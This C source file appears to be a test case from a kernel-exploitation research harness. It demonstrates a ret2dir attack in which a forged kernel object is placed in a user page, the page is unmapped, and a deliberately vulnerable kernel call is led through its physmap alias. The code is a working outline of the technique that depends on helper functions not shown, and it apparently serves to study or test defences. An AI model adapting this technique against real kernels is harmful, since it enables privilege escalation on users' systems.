/* ret2dir through a freed page: the payload is unmapped before the kernel is led to its bytes. */
#include <stdio.h>
#include <sys/mman.h>

#include "attack.h"

/*
 * The allocator hands the frame freed last out first. With the payload in the middle of a few
 * pages, one that the kernel takes for itself meanwhile is not the payload's.
 */
enum { NR_PAGES = 16, PAYLOAD_PAGE = NR_PAGES / 2 };

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	char *pages = attack_pages(NR_PAGES * BW_PAGE_SIZE);
	void *payload = pages + PAYLOAD_PAGE * BW_PAGE_SIZE;
	uint64_t synonym = attack_synonym(&leak, payload);

	payload_object(payload, synonym, &leak);
	attack_say("forged object at 0x%lx, in frame 0x%lx", (uintptr_t)payload,
		   attack_pfn(payload));
	attack_say("it is unmapped; then the kernel calls through 0x%lx", synonym);
	if (munmap(pages, NR_PAGES * BW_PAGE_SIZE) != 0) {
		attack_skip("munmap failed");
	}
	attack_check("vuln_call", bw_vuln_call(synonym));
	return attack_finish();
}
